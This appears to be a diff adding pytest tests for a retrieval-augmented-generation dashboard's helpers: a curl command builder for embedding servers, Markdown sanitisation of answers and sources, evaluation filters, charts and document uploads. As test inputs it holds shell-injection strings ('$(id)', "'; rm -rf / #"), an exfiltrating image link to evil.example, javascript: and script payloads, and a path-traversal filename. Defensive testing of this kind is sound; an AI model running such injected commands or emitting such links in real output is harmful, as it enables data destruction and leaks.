@@ -1,0 +1,217 @@
+"""The pure helpers behind the dashboard pages (rag.embed_request, answer_display, eval_display,
+document_inputs, charts): what they produce is what the pages show or hand to the user."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from types import SimpleNamespace
+
+import pytest
+
+from rag import answer_display as D
+from rag import eval_display as E
+from rag.charts import calibration_chart, score_chart
+from rag.document_inputs import (PASTED_URL, document_rows, documents_from_uploads, pasted_document,
+                                 preview_chunks, preview_json, split_items, stats_rows, warning_sentences)
+from rag.embed_request import curl_command, endpoint, request_body, suggested_model
+from rag.errors import QuestionSetError
+from rag.commands.preview import preview
+from rag.sources import load_one
+
+NASTY = [
+    "It's a \"quoted\" $HOME `whoami` $(id) \\ back\\slash",
+    "line one\nRAG_EMBED_REQUEST\nEOF\n'; rm -rf / #",
+    "accents é à ü, emoji 🔐, tab\tend",
+]
+
+
+class _Echo(BaseHTTPRequestHandler):
+    received: list[tuple[str, bytes]] = []
+
+    def do_POST(self) -> None:
+        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        self.received.append((self.path, body))
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"{}")
+
+    def log_message(self, *args) -> None:
+        pass
+
+
+@pytest.fixture
+def echo_server():
+    _Echo.received = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", _Echo.received
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("target,path,extra", [
+    ("lmstudio", "/v1/embeddings", {"encoding_format": "float"}),
+    ("ollama", "/api/embed", {"truncate": False}),
+])
+@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
+def test_curl_command_sends_every_chunk_intact_whatever_it_contains(echo_server, target, path, extra):
+    url, received = echo_server
+    command = curl_command(NASTY, "text-embedding-qwen3-embedding-0.6b", url, target)
+    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=30)
+    assert done.returncode == 0, done.stderr
+    assert len(received) == 1  # one request for all chunks
+    got_path, body = received[0]
+    assert got_path == path
+    assert json.loads(body) == {"model": "text-embedding-qwen3-embedding-0.6b", "input": NASTY, **extra}
+
+
+def test_endpoints_accept_base_urls_as_people_type_them():
+    assert endpoint("localhost:1234", "lmstudio") == "http://localhost:1234/v1/embeddings"
+    assert endpoint("http://localhost:1234/v1/embeddings/", "lmstudio") == "http://localhost:1234/v1/embeddings"
+    assert endpoint("http://localhost:11434/", "ollama") == "http://localhost:11434/api/embed"
+    assert request_body(["a"], "m", "ollama") == {"model": "m", "input": ["a"], "truncate": False}
+    with pytest.raises(ValueError):
+        request_body(["a"], "m", "openai-cloud")
+
+
+def test_suggested_model_prefers_the_setting_then_the_servers_embedding_model():
+    models = [{"id": "qwen2.5-7b-instruct", "type": "llm"}, {"id": "text-embedding-nomic", "type": "embeddings"}]
+    assert suggested_model("my-model", models) == "my-model"
+    assert suggested_model("embedded", models) == "text-embedding-nomic"
+    assert suggested_model(None, []) == "YOUR-EMBEDDING-MODEL"
+
+
+def _passage(n, score, url="kerberos.md", title="Kerberos", section="Erreurs", text="texte"):
+    return SimpleNamespace(n=n, score=score, url=url, title=title, section=section, text=text, rrf_score=None)
+
+
+def test_stream_safe_pieces_never_form_a_link_or_image_across_pieces():
+    pieces = ["Voir ![x", "](https://evil.example/?q=secret) et [ici](java", "script:alert(1)) \\", "[1]"]
+    streamed = "".join(D.stream_safe_pieces(pieces))
+    assert "](" not in streamed.replace("\\](", "")
+    # Every bracket reaches the reader escaped, so the Markdown shows them as typed.
+    assert streamed.count("\\[") == pieces[0].count("[") + pieces[1].count("[") + 1
+
+
+def test_sources_link_only_http_urls_and_show_paths_as_text():
+    web = _passage(1, 0.9, url="https://blog.example.com/kerberos/")
+    path = _passage(2, 0.8, url="kerberos-erreurs.md")
+    evil = _passage(3, 0.8, url="javascript:alert(1)", title="Click [me]")
+    assert D.source_markdown(web) == "**[1]** [Kerberos / Erreurs](https://blog.example.com/kerberos/)"
+    assert D.source_markdown(path) == "**[2]** Kerberos / Erreurs — kerberos-erreurs.md"
+    shown = D.source_markdown(evil)
+    assert "](" not in shown and "javascript:alert(1)" in shown and "\\[me\\]" in shown
+
+
+def test_answer_markdown_drops_unsafe_links_and_images():
+    result = SimpleNamespace(answer='Réponse [1] <script>x</script> ![t](https://evil/p.png) [a](javascript:x)')
+    shown = D.answer_markdown(result)
+    assert "[1]" in shown and "<script>" not in shown and "https://evil" not in shown and "javascript:" not in shown
+
+
+def test_refusal_and_flags_say_why_in_numbers():
+    refused = SimpleNamespace(best_score=0.786, threshold=0.85, threshold_source="setting", refusal_reason="x")
+    assert D.refusal_details(refused).startswith("Best passage score 0.786 is below the threshold 0.850 (setting)")
+    flagged = SimpleNamespace(invalid_citations=[7], uncited=False, dropped_passages=[5, 6], llm_error=None,
+                              context_length=4096, warnings=[])
+    flags = D.answer_flags(flagged)
+    assert "[7]" in flags[0] and "[5], [6]" in flags[1] and "4096 tokens" in flags[1]
+    assert D.no_answer_reason(SimpleNamespace(llm_error="LM Studio is down.")).startswith("No answer was written")
+
+
+def test_score_chart_draws_one_bar_a_passage_and_the_threshold():
+    rows = D.passage_rows(SimpleNamespace(passages=[_passage(1, 0.91), _passage(2, 0.8)], accepted=[1], cited=[1]))
+    assert [r["passed"] for r in rows] == [True, False]
+    fig = score_chart(rows, 0.85)
+    assert list(fig.data[0].y) == [0.91, 0.8]
+    assert fig.layout.shapes[0].y0 == 0.85
+
+
+ROWS = [
+    {"id": "a", "question": "qa", "in_base": True, "top1_score": 0.9, "rank": 1, "retrieved": [{"url": "x.md", "score": 0.9}]},
+    {"id": "b", "question": "qb", "in_base": True, "top1_score": 0.84, "rank": None, "retrieved": []},
+    {"id": "c", "question": "qc", "in_base": False, "top1_score": 0.87, "rank": None, "retrieved": []},
+    {"id": "d", "question": "qd", "in_base": False, "top1_score": 0.75, "rank": None, "retrieved": []},
+]
+
+
+def test_filters_follow_the_threshold_without_rerunning():
+    assert [r["id"] for r in E.filter_rows(ROWS, E.MISSED, 0.85)] == ["b"]
+    assert [r["id"] for r in E.filter_rows(ROWS, E.WRONGLY_REFUSED, 0.85)] == ["b"]
+    assert [r["id"] for r in E.filter_rows(ROWS, E.WRONGLY_ACCEPTED, 0.85)] == ["c"]
+    assert E.filter_rows(ROWS, E.WRONGLY_ACCEPTED, 0.88) == []
+    at = E.counts_at(ROWS, 0.85)
+    assert (at["in_base_accepted_count"], at["out_of_base_refused_count"]) == (1, 1)
+    table = E.table_rows(ROWS[:1], 0.85)
+    assert table[0]["at threshold"] == "answered" and table[0]["retrieved"] == "1. x.md (0.900)"
+
+
+def test_calibration_chart_has_both_groups_and_the_threshold_lines():
+    fig = calibration_chart(ROWS, current=0.83, suggested=0.88, chosen=0.86)
+    assert [len(t.x) for t in fig.data] == [2, 2]
+    assert sorted(round(s.x0, 3) for s in fig.layout.shapes) == [0.83, 0.86, 0.88]
+
+
+def test_metric_cards_use_plain_words_and_counts():
+    summary = {"in_base": 54, "out_of_base": 14, "k": 6, "hit_at_1": 0.963, "hit_at_k": 1.0, "mrr": 0.98,
+               "answer_in_context": None, "in_base_accepted": 1.0, "out_of_base_refused": 0.2857,
+               "counts": {"hit_at_1": 52, "hit_at_k": 54, "in_base_accepted": 54, "out_of_base_refused": 4}}
+    cards = {c["label"]: c for c in E.metric_cards(summary)}
+    assert cards["hit@1"]["value"] == "96%" and cards["hit@1"]["caption"].startswith("52 of 54")
+    assert cards["hit@6"]["value"] == "100%" and cards["answer in context"]["value"] == "n/a"
+    assert cards["off-topic refused"]["caption"].startswith("4 of 14")
+
+
+def test_uploaded_question_sets_are_parsed_or_refused_clearly():
+    csv = "id,question,expected_source,in_base\nq1,Quoi ?,a.md,true\nq2,Hors sujet ?,,false\n".encode()
+    assert [q.id for q in E.questions_from_upload("set.csv", csv)] == ["q1", "q2"]
+    jsonl = b'{"id": "q1", "question": "Quoi ?", "in_base": false}\n'
+    assert E.questions_from_upload("set.jsonl", jsonl)[0].in_base is False
+    with pytest.raises(QuestionSetError):
+        E.questions_from_upload("set.csv", "id;question\n1;é".encode("cp1252"))
+
+
+def test_uploads_load_like_a_folder_and_report_unusable_files():
+    items = documents_from_uploads([
+        ("../../etc/a.md", "# Titre A\n\nTexte.".encode()),
+        ("b.html", b"<html><head><title>Page B</title></head><body><main><p>Corps</p></main></body></html>"),
+        ("empty.md", b""),
+    ])
+    documents, problems = split_items(items)
+    assert [(d.url, d.title, d.modified) for d in documents] == [("a.md", "Titre A", None), ("b.html", "Page B", None)]
+    assert [p.item for p in problems] == ["empty.md"]
+    rows = document_rows(documents, problems)
+    assert rows[0]["characters"] == len(documents[0].markdown) and "empty" in rows[-1]["problems"]
+
+
+def test_pasted_text_takes_its_title_from_the_first_heading():
+    doc = pasted_document("# Mon titre\n\nDu texte.\r\n")
+    assert (doc.url, doc.title, doc.markdown) == (PASTED_URL, "Mon titre", "# Mon titre\n\nDu texte.")
+
+
+def test_preview_rows_and_export_match_the_cli():
+    from rag.demo import DEMO_DIR
+
+    document = load_one(str(DEMO_DIR / "kerberos-klist.md"))
+    given = {"chunk_size": 500, "overlap": None, "min_size": None, "max_size": None}
+    previews = preview_chunks(document, given)
+    rows = stats_rows(previews)
+    assert [r["strategy"] for r in rows] == ["recursive", "sections", "sections_min_max", "markdown"]
+    recursive = dict((c.name, ch) for c, ch in previews)["recursive"]
+    assert any("(code_block_split)" in s for s in warning_sentences(recursive))
+    assert "code_block_split" in rows[0]["warnings"]
+    assert preview_json(document, given) == preview(document, "all", **given)
+
+
+def test_passage_headings_are_demoted_but_code_is_left_alone():
+    text = "## Modifier MaxTokenSize\n\nTexte.\n\n```powershell\n# un commentaire\n```\n### Fin ###"
+    shown = D.passage_text_markdown(_passage(1, 0.9, text=text))
+    assert shown == "**Modifier MaxTokenSize**\n\nTexte.\n\n```powershell\n# un commentaire\n```\n**Fin**"
